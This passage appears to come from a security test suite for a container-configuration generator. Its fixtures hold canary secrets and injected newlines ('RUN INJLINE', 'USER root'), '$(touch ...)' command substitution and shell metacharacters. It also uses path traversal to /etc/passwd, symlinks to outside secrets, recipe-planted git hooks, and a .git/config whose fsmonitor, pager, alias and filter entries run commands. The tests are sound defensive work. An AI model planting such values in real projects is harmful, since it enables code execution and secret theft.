            "site.conf": 'server {\n root /x;\n fastcgi_pass x;\n fastcgi_param DB_PASSWORD SECRETCANARYx1;\n fastcgi_param API_SECRET "SECRETCANARYx2";\n}\n',
        },
        "SECRETCANARYx1 SECRETCANARYx2",
    ),
    "config-env": (
        node(
            **{
                "longshore.toml": '[env]\nAPI_SECRET = "SECRETCANARYy1"\nMAIL = "smtp://u:SECRETCANARYy2@h"\n[mirrors]\nnpm = "https://u:SECRETCANARYy3@h/"\n'
            }
        ),
        "SECRETCANARYy1 SECRETCANARYy2 SECRETCANARYy3",
    ),
    "config-mirror": (
        node(**{"longshore.toml": '[mirrors]\nnpm = "https://h/?token=SECRETCANARYz1"\n'}),
        "SECRETCANARYz1",
    ),
    "docker-run": (
        node(
            readme_text=readme(
                more=fence(
                    "docker run -e POSTGRES_PASSWORD=SECRETCANARYq1 -p 5432:5432 postgres:14\ndocker login -u x -p SECRETCANARYq2"
                )
            )
        ),
        "SECRETCANARYq1 SECRETCANARYq2",
    ),
    "migrate-url": (
        node(
            readme_text=readme(
                install="npm install\nnpx knex migrate:latest --connection postgres://u:SECRETCANARYm1@h/x\nnpm run migrate -- --url=postgres://u:SECRETCANARYm2@h/x"
            )
        ),
        "SECRETCANARYm1 SECRETCANARYm2",
    ),
}
for n, v in SK.items():
    case("K secrets", n, v[0], secrets=v[1].split(), **(v[2] if len(v) > 2 else {}))

# =====================================================================
# G: configuration, recipes, state, git
# =====================================================================
H_EMPTY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
case(
    "G config",
    "toml-newlines",
    node(
        **{
            "longshore.toml": '[component]\nruntime = "18\\nRUN INJLINE"\nstart = "node a.js\\nUSER root\\nRUN INJLINE"\nhealth = "/x\\nRUN INJLINE"\npath = "."\n[env]\nFOO = "a\\nRUN INJLINE"\n[answers]\n"env-foo" = "x\\nRUN INJLINE"\nstack = "node-npm\\nRUN INJLINE"\n[images]\nnode = "evil/x"\n'
        }
    ),
)
case(
    "G config",
    "toml-start-words",
    node(
        **{
            "longshore.toml": '[component]\nstart = ["node", "a.js\\nRUN INJLINE", "\\u2028INJLINE", "$(touch INJCMD)", "${X}"]\n'
        }
    ),
)
case("G config", "toml-path-up", node(**{"longshore.toml": '[component]\npath = "../../outside"\n'}), strace=True)
case("G config", "toml-path-abs", node(**{"longshore.toml": '[component]\npath = "@ROOT@/outside"\n'}), strace=True)
case(
    "G config", "toml-images", node(**{"longshore.toml": '[images]\nmirror = "evil.example/x"\nnode = "evil/x AS y"\n'})
)
case("G config", "toml-images-at", node(**{"longshore.toml": '[images]\nnode = "-x"\nmirror = "..//.."\n'}))
case(
    "G config",
    "toml-ingress",
    node(**{"longshore.toml": '[ingress]\nhost = "a-.b"\ntls-secret = "' + "a" * 300 + '"\nclass = "x"\n'}),
)
case("G config", "toml-mirror", node(**{"longshore.toml": '[mirrors]\nnpm = "https://h/%s;touch{INJCMD}"\n'}))
case(
    "G config",
    "toml-mirror-shell",
    {
        **node(
            **{
                "longshore.toml": '[mirrors]\nnpm = "https://h/;touch;INJCMD;(a)&b|c>d<e*#f!"\ncargo = "sparse+https://x/|touch&INJCMD"\nmaven = "https://h/<a>INJCMD</a>&x;"\n'
            }
        )
    },
)
case(
    "G config",
    "toml-secret-env",
    node(**{"longshore.toml": '[mirrors]\nnpm = {env = "PATH"}\npip = {env = "LD_PRELOAD"}\n'}),
)
case(
    "G config",
    "ca-outside",
    node(**{"longshore.toml": '[build]\nca-certificate = "../outside/secret.pem"\n'}),
    strace=True,
)
case(
    "G config",
    "ca-link",
    node(**{"longshore.toml": '[build]\nca-certificate = "ca.pem"\n', "ca.pem": L(OUTSIDE + "/secret.pem")}),
    strace=True,
    outside_canary=True,
)
case(
    "G config",
    "ca-inject",
    node(
        **{
            "longshore.toml": '[build]\nca-certificate = "ca.pem"\n',
            "ca.pem": "-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\nRUN INJLINEok\nSECRET",
        }
    ),
)
case(
    "G config",
    "recipes-outside",
    node(**{"longshore.toml": 'recipes = ["../outside", "/etc", "../../../etc"]\n'}),
    strace=True,
)
case("G config", "recipes-link-folder", node(**{"longshore.toml": 'recipes = ["r"]\n', "r": L(OUTSIDE)}), strace=True)
case(
    "G config",
    "recipes-link-file",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/stacks/x.toml": L(OUTSIDE + "/secret.txt"),
            "r/stacks/y.toml": L("/etc/passwd"),
        }
    ),
    strace=True,
    outside_canary=True,
)
case(
    "G config",
    "recipes-zero",
    node(**{"longshore.toml": 'recipes = ["r"]\n', "r/stacks/x.toml": L("/dev/zero")}),
    heavy=True,
)
W = OUTSIDE + "/w-recipe"
UPWARDS = "/".join([".."] * 20)
case(
    "G config",
    "recipes-write",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/frameworks/express.toml": f'[[image.file]]\npath = "{UPWARDS}{W}-rel"\nto = "/x"\ncontents = "PWNED"\nwhy = "x"\n[[image.file]]\npath = "{W}-abs"\nto = "/y"\ncontents = "PWNED"\nwhy = "y"\nexecutable = true\n',
        }
    ),
    outside_target=W,
    recipes_write=True,
)
case(
    "G config",
    "recipes-git-hook",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            ".git/HEAD": "ref: refs/heads/main\n",
            "r/frameworks/express.toml": '[[image.file]]\npath = ".git/hooks/post-checkout"\nto = "/x"\ncontents = "#!/bin/sh\\ntouch PWNED"\nwhy = "x"\nexecutable = true\n[[image.file]]\npath = "a.js"\nto = "/x"\ncontents = "x"\nwhy = "x"\n',
        }
    ),
    in_place=True,
    recipes_hook=True,
)
case(
    "G config",
    "recipes-inject",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/frameworks/express.toml": '[image]\nworkdir = "/app\\nRUN INJLINE"\nbuild = "node:18\\nRUN INJLINE"\n[image.run_env]\n"A\\nRUN INJLINE" = "b\\nUSER root"\n[[build]]\ncommand = "touch x\\nRUN INJLINE"\n[[image.run_setup]]\ncommand = "a \\\\"\n',
        }
    ),
)
case(
    "G config",
    "recipes-inject2",
    node_pg(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/services/postgres.toml": 'image = "evil\\nINJLINE: x"\nhealthcheck = ["x\\nINJLINE"]\nwritable = ["/x\\nINJLINE: y"]\ndata = "/d\\nINJLINE"\nsecrets = ["A\\nINJLINE: z", "POSTGRES_PASSWORD"]\ninit_directory = "/i\\nINJLINE"\n[settings]\n"B\\nINJLINE: q" = "v\\nINJLINE"\n',
        }
    ),
)
case(
    "G config",
    "recipes-regex",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/stacks/node-npm.toml": 'serves = ["x"]\nenv_reads = ["(?:a{1000}){1000}(?<name>x)"]\n',
        }
    ),
)
case(
    "G config",
    "recipes-broken",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/stacks/x.toml": "title = 1\n",
            "r/nokind/x.toml": "",
            "r/tools/z.toml": "= =",
        }
    ),
)
REP = lambda edits: {
    "component": "web",
    "rule": "x\nINJLINE",
    "cause": "c<script>INJHTML</script>",
    "log": "l\nRUN INJLINE",
    "edits": edits,
}
case(
    "G state",
    "stale-outside",
    node(**{".longshore.json": ("stale", OUTSIDE + "/known.txt")}),
    in_place=True,
    stale=True,
)
case(
    "G state",
    "repairs",
    node_pg(**{".longshore.json": ("repairs", [{"add_install": None}])}),
    in_place=True,
    repairs=True,
)
case("G state", "proven", node(**{".longshore.json": ("proven",)}), in_place=True, proven=True)
case("G state", "garbage", node(**{".longshore.json": '{"files": {"../../x": 1}, "proven": []}'}), in_place=True)
case("G state", "huge-numbers", node(**{".longshore.json": ("proven-numbers",)}), in_place=True)
case(
    "G git",
    "config",
    node(
        **{
            ".git/HEAD": "ref: refs/heads/main\n",
            ".git/config": '[core]\n\tfsmonitor = "touch @ROOT@/outside/PWNED-git"\n\tpager = touch @ROOT@/outside/PWNED-git\n\tsshCommand = touch @ROOT@/outside/PWNED-git\n\thooksPath = @ROOT@/outside\n\teditor = touch @ROOT@/outside/PWNED-git\n[include]\n\tpath = @ROOT@/outside/gitinclude\n\tpath = /dev/zero\n[alias]\n\tlog = !touch @ROOT@/outside/PWNED-git\n[filter "x"]\n\tclean = touch @ROOT@/outside/PWNED-git\n[diff "x"]\n\ttextconv = touch @ROOT@/outside/PWNED-git\n[extensions]\n\tworktreeConfig = true\n',
            ".gitattributes": "* filter=x diff=x\n",
            ".git/hooks/post-checkout": "#!/bin/sh\ntouch @ROOT@/outside/PWNED-git\n",
            ".git/objects/info/alternates": "@ROOT@/outside\n",
            ".git/refs/heads/main": "0" * 40 + "\n",
        }
    ),
    strace=True,
)
case("G git", "gitfile", node(**{".git": "gitdir: @ROOT@/outside/git\n"}), strace=True)
case("G git", "git-link", node(**{".git": L(OUTSIDE)}), strace=True)
case(
    "G git",
    "commondir",
    node(
        **{
            ".git/HEAD": "ref: ../../../../etc/passwd\n",
            ".git/commondir": "@ROOT@/outside\n",
            ".git/config": "",
            ".git/packed-refs": "^" * 1000000,
        }
    ),
    strace=True,
)


# Cases that the first reading of the findings added by hand.
case(
    "A dockerfile",
    "go-folder-heredoc",
    {
        "go.mod": "module example.com/x\n\ngo 1.21\n",
        'cmd/a <<"USER 10001:10001"/main.go': 'package main\nimport "net/http"\nfunc main(){ http.ListenAndServe(":8080", nil) }\n',
        "README.md": "# Shop\n\n```sh\ngo mod download\n```\n",
    },
)
UP = "d/${N:-..}/${N:-..}/${N:-..}/etc"
case(
    "B yaml",
    "dump-interpolation",
    {
        **node_pg(readme_text=readme(install=f"npm install\npsql -d shop -f '{UP}/hostname'")),
        UP + "/hostname": "CREATE TABLE a (id int);\n",
    },
)
case(
    "B yaml",
    "env-boolean-names",
    node(
        js="process.env.NO; process.env.Y; process.env.NULL; process.env.ON",
        **{".env.example": "NO=1\nY=2\nNULL=3\nON=4\n"},
    ),
    envcheck=True,
)
case(
    "B yaml",
    "cron-invalid",
    django(
        readme_text="# Shop\n\n```sh\npip install -r requirements.txt\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n\nCrontab:\n\n```\n61 25 32 13 8 python manage.py a\n*/0 * * * * python manage.py b\n5-1 * * * * python manage.py c\n```\n"
    ),
)
case(
    "B yaml",
    "component-called-true",
    {
        **{f"{n}/{k}": v for n in ["true", "prepare", "redis"] for k, v in node_pg({"name": n}).items()},
        "README.md": "# Shop\n\nParts.\n",
    },
)
case(
    "G state",
    "overwrite-known",
    node(
        **{
            "longshore.toml": 'recipes = ["r"]\n',
            "r/frameworks/express.toml": f'[[image.file]]\npath = "../../outside/known.txt"\nto = "/x"\ncontents = "PWNED"\nwhy = "x"\n',
            ".longshore.json": ("stale", OUTSIDE + "/known.txt"),
        }
    ),
    in_place=True,
    stale=True,
)
# What only a reader could see: a `COPY` that copies nothing, a linked ignore file.
case(
    "A names",
    "copy-of-a-folder-with-blanks",
    {
        **{f"my app/{k}": v for k, v in node().items() if k != "README.md"},
        "README.md": "# Shop\n\n```sh\ncd 'my app'\nnpm install\nnpm start\n```\n",
    },
)
case("L links", "dockerignore-link", node(**{".dockerignore": ("link", OUTSIDE + "/gitignore")}), strace=True)
